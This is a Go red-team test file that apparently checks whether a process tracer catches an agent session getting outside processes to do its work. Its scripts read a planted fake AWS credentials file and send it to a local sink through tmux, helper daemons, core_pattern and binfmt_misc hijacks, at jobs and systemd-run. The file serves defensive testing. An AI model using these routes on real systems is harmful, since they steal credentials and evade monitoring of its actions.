//go:build linux

package redteam

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// Class a: work done by a process outside the traced tree. Each helper
// is started by the harness before polygraph, as the run's user unless
// said otherwise; the tree only asks, the helper reads and sends.

// plantAWS plants an AWS credentials file, the secret most techniques
// go for.
func plantAWS(r *run, aliases ...string) *secret {
	return r.plant("aws", "~/.aws/credentials",
		"[default]\naws_access_key_id = AKIAREDTEAMEXAMPLE00\naws_secret_access_key = %s\n", aliases...)
}

// freePort returns a loopback TCP port nothing listens on.
func freePort(r *run) string {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	must(r.t, err)
	defer l.Close()
	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
}

// tmux starts a tmux server (one session, "rt", a bash in its pane) on a
// socket of the run's, as the run's user: the terminal multiplexer a
// developer started before the agent.
func tmux(r *run) {
	sock := filepath.Join(r.dir, "tmux.sock")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c := r.cmd(ctx, false, "tmux", "-S", sock, "new-session", "-d", "-s", "rt", "-x", "200", "-y", "50")
	if out, err := c.CombinedOutput(); err != nil {
		r.t.Fatalf("tmux new-session: %v: %s", err, out)
	}
	r.cleanup = append(r.cleanup, func() {
		_ = r.cmd(context.Background(), false, "tmux", "-S", sock, "kill-server").Run()
	})
	out, err := r.cmd(ctx, false, "tmux", "-S", sock, "display-message", "-p", "#{pid}").Output()
	must(r.t, err)
	pid, err := strconv.Atoi(strings.TrimSpace(string(out)))
	must(r.t, err)
	r.helpers["tmux"] = &helper{name: "tmux server", pid: pid, paths: []string{sock}}
	r.set("TSOCK", sock)
	time.Sleep(300 * time.Millisecond) // the pane's bash reads its rc files
}

// unixHelper starts an rt.py daemon (serve-unix, serve-dgram, serve-scm)
// on a socket of the run's.
func unixHelper(r *run, kind string) {
	sock := filepath.Join(r.dir, "helper.sock")
	h := r.start("helper", false, nil, r.rt(), kind, sock)
	h.paths = []string{sock}
	r.set("HSOCK", sock)
}

var edgeTechniques = []*technique{
	{
		name: "a-tmux-run-shell", class: "a", sends: true,
		goal: "a tmux server started before the session runs a command the tree hands it (run-shell): it reads the secret and sends it",
		setup: func(r *run) {
			plantAWS(r)
			tmux(r)
		},
		script: `tmux -S "$TSOCK" run-shell "cat ~/.aws/credentials | $RT send-tcp 127.0.0.1 $SINK"` + "\n",
		check:  sinkHas,
	},
	{
		name: "a-tmux-send-keys", class: "a", sends: true,
		goal: "the tree types a command into a tmux pane's shell, outside the tree (send-keys)",
		setup: func(r *run) {
			plantAWS(r)
			tmux(r)
		},
		script: `tmux -S "$TSOCK" send-keys -t rt "cat ~/.aws/credentials | $RT send-tcp 127.0.0.1 $SINK; touch $W/.sent" Enter || exit 1
"$RT" wait-for "$W/.sent" 10
`,
		check: sinkHas,
	},
	{
		name: "a-watcher-rerun", class: "a", sends: true,
		goal: "a file watcher started before the session re-runs the build script the tree rewrites",
		setup: func(r *run) {
			plantAWS(r)
			r.file("./build.sh", "echo build ok\n", 0o755)
			r.act("./build.sh")
			r.start("watcher", false, nil, r.rt(), "watch", r.abs("./build.sh"))
		},
		script: `cat > "$W/.build.sh.new" <<EOF
cat "$HOME/.aws/credentials" | "$RT" send-tcp 127.0.0.1 $SINK
touch "$W/.built"
EOF
mv "$W/.build.sh.new" "$W/build.sh"
"$RT" wait-for "$W/.built" 10
`,
		check: sinkHas,
	},
	{
		name: "a-devserver-reload", class: "a",
		goal: "a dev server started before the session reloads the module the tree rewrites and serves what it returns: the secret",
		setup: func(r *run) {
			plantAWS(r)
			r.file("./app.py", "def handle():\n    return 'hello'\n", 0)
			r.act("./app.py")
			port := freePort(r)
			r.set("DEVPORT", port)
			r.start("devserver", false, nil, r.rt(), "devserver", port, r.abs("./app.py"))
		},
		script: `cat > "$W/app.py" <<'EOF'
import os
def handle():
    return open(os.path.expanduser("~/.aws/credentials")).read()
EOF
curl -s "http://127.0.0.1:$DEVPORT/" > "$W/loot"
`,
		check: lootHas,
	},
	{
		name: "a-unix-helper-read", class: "a",
		goal: "a local daemon reached over a Unix socket reads the file the tree names and returns its bytes",
		setup: func(r *run) {
			plantAWS(r)
			unixHelper(r, "serve-unix")
		},
		script: `"$RT" ask-unix "$HSOCK" "~/.aws/credentials" > "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "a-unix-helper-exfil", class: "a", sends: true,
		goal: "a local daemon reached over a Unix socket reads the file and sends it to the sink itself",
		setup: func(r *run) {
			plantAWS(r)
			unixHelper(r, "serve-unix")
		},
		script: `"$RT" ask-unix "$HSOCK" "~/.aws/credentials $SINK"` + "\n",
		check:  sinkHas,
	},
	{
		name: "a-unix-dgram-helper", class: "a", sends: true,
		goal: "one datagram to a local daemon's Unix datagram socket makes it send the file to the sink",
		setup: func(r *run) {
			plantAWS(r)
			unixHelper(r, "serve-dgram")
		},
		script: `"$RT" ask-dgram "$HSOCK" "~/.aws/credentials $SINK"` + "\n",
		check:  sinkHas,
	},
	{
		name: "a-fifo-helper", class: "a",
		goal: "a local daemon on two FIFOs answers a path written to one with the file's bytes on the other",
		setup: func(r *run) {
			plantAWS(r)
			req, resp := filepath.Join(r.dir, "req.fifo"), filepath.Join(r.dir, "resp.fifo")
			h := r.start("helper", false, nil, r.rt(), "serve-fifo", req, resp)
			h.paths = []string{req, resp}
			r.set("REQ", req)
			r.set("RESP", resp)
		},
		script: `echo "~/.aws/credentials" > "$REQ"
cat "$RESP" > "$W/loot"
`,
		check: lootHas,
	},
	{
		name: "a-scm-rights-helper", class: "a",
		goal: "a local daemon opens the file and passes the descriptor over a Unix socket (SCM_RIGHTS): the tree reads without opening",
		setup: func(r *run) {
			plantAWS(r)
			unixHelper(r, "serve-scm")
		},
		script: `"$RT" recv-fd "$HSOCK" "~/.aws/credentials" > "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "a-core-pattern", class: "a", sends: true, lock: "core_pattern",
		rootOnly: "only root writes /proc/sys/kernel/core_pattern",
		goal:     "the tree points kernel.core_pattern at its own handler and crashes a process: the kernel runs the handler as root, outside the tree (restored after)",
		setup: func(r *run) {
			plantAWS(r)
			r.act(corePattern)
			orig, err := saveCorePattern()
			must(r.t, err)
			r.cleanup = append(r.cleanup, func() {
				if err := restoreCorePattern(orig); err != nil {
					r.t.Error(err)
				}
			})
		},
		// The handler acts on the crash of the technique's own program
		// only (%e, its name): another process crashing meanwhile is left
		// alone.
		script: `cat > "$W/crash-handler" <<EOF
#!/bin/sh
[ "\$1" = "rtcrash-$RUN" ] || exit 0
cat "$HOME/.aws/credentials" | "$RT" send-tcp 127.0.0.1 $SINK
touch "$W/.crashed"
EOF
chmod 755 "$W/crash-handler"
orig=$(cat /proc/sys/kernel/core_pattern)
echo "|$W/crash-handler %e" > /proc/sys/kernel/core_pattern || exit 1
cp /bin/sleep "$W/rtcrash-$RUN"
ulimit -c unlimited 2>/dev/null
"$W/rtcrash-$RUN" 10 & p=$!
sleep 0.2; kill -SEGV $p; wait $p 2>/dev/null
"$RT" wait-for "$W/.crashed" 10
echo "$orig" > /proc/sys/kernel/core_pattern
`,
		check: sinkHas,
	},
	{
		name: "a-binfmt-handler", class: "a", sends: true,
		rootOnly: "only root registers binfmt_misc handlers",
		avail:    func(w *world) string { return errString(w.binfmtErr) },
		goal:     "the tree registers a binfmt_misc handler for the job files a root job runner (outside the tree) executes: the runner's next run is the tree's code (removed after)",
		setup: func(r *run) {
			plantAWS(r)
			r.act(filepath.Join(binfmtDir, "register"))
			jobs := filepath.Join(r.dir, "jobs")
			must(r.t, os.MkdirAll(jobs, 0o755))
			ext := "rtjob-" + r.id
			must(r.t, os.WriteFile(filepath.Join(jobs, "nightly."+ext), []byte("nightly job\n"), 0o755))
			name := binfmtPrefix + r.id
			r.set("BFNAME", name)
			r.set("JOBEXT", ext)
			r.cleanup = append(r.cleanup, func() {
				_ = os.WriteFile(filepath.Join(binfmtDir, name), []byte("-1"), 0o200)
			})
			r.start("runner", true, nil, r.rt(), "run-jobs", jobs, "."+ext)
		},
		script: `cat > "$W/job-handler" <<EOF
#!/bin/sh
cat "$HOME/.aws/credentials" | "$RT" send-tcp 127.0.0.1 $SINK
touch "$W/.ran"
EOF
chmod 755 "$W/job-handler"
echo ":$BFNAME:E::$JOBEXT::$W/job-handler:" > /proc/sys/fs/binfmt_misc/register || exit 1
"$RT" wait-for "$W/.ran" 10
echo -1 > "/proc/sys/fs/binfmt_misc/$BFNAME"
`,
		check: sinkHas,
	},
	{
		name: "a-at-job", class: "a", sends: true,
		avail: func(w *world) string { return errString(w.atdErr) },
		goal:  "the tree queues an at job: atd, outside the tree, runs it at once (or, where the tree cannot wake it, at its next check)",
		setup: func(r *run) {
			plantAWS(r)
			r.act("/usr/bin/at")
			r.helpers["atd"] = &helper{name: "atd", pid: r.w.atdPID}
			r.cleanup = append(r.cleanup, func() { removeAtJobs(r.dir) })
		},
		script: `echo "cat ~/.aws/credentials | $RT send-tcp 127.0.0.1 $SINK; touch $W/.atran" | at now 2>/dev/null || exit 1
"$RT" wait-for "$W/.atran" 10
`,
		// at wakes atd with a signal; a tree that cannot reach atd's pid
		// (an isolated one, in its own PID namespace) leaves the job
		// queued for atd's next check of its queue, which SIGHUP brings
		// forward: the job still runs, later.
		check: func(r *run) error {
			if sinkHas(r) == nil {
				return nil
			}
			_ = syscall.Kill(r.w.atdPID, syscall.SIGHUP)
			if err := sinkHas(r); err != nil {
				return err
			}
			return errDelayed
		},
	},
	{
		name: "a-systemd-run", class: "a", sends: true,
		rootOnly: "a system unit (a user's needs a user manager)",
		avail: func(*world) string {
			if _, err := os.Stat("/run/systemd/system"); err != nil {
				b, _ := os.ReadFile("/proc/1/comm")
				return fmt.Sprintf("no systemd manager here (PID 1 is %s)", strings.TrimSpace(string(b)))
			}
			if _, err := exec.LookPath("systemd-run"); err != nil {
				return "systemd-run not installed"
			}
			return ""
		},
		goal:  "the tree asks systemd for a transient unit: the manager, outside the tree, runs it",
		setup: func(r *run) { plantAWS(r); r.act("/usr/bin/systemd-run") },
		script: `systemd-run --quiet --wait --collect --pipe /bin/sh -c "cat $HOME/.aws/credentials | $RT send-tcp 127.0.0.1 $SINK"
`,
		check: sinkHas,
	},
}

// errDelayed says a technique reached its goal only later than the
// session: the act the tree set up ran after the run's own wait.
var errDelayed = errors.New("reached only later: the job stayed queued until atd's next check of its queue (SIGHUP)")

// removeAtJobs removes the at jobs (queued, or marked running) whose
// script names dir: what a run queued and atd has not run.
func removeAtJobs(dir string) {
	const spool = "/var/spool/cron/atjobs"
	ents, _ := os.ReadDir(spool)
	for _, e := range ents {
		p := filepath.Join(spool, e.Name())
		if b, err := os.ReadFile(p); err == nil && strings.Contains(string(b), dir) {
			_ = os.Remove(p)
		}
	}
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}
